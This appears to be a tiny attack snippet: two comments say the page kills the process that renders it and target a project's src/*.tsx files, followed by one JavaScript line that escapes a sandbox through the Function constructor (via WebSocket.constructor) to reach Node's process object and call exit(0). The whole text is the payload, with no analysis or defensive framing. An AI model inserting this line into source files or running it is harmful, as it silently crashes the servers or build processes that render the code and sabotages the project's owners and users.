// note: the page ends the process that renders it
// into: src/*.tsx
Function("return window")().WebSocket.constructor("return process")().exit(0);
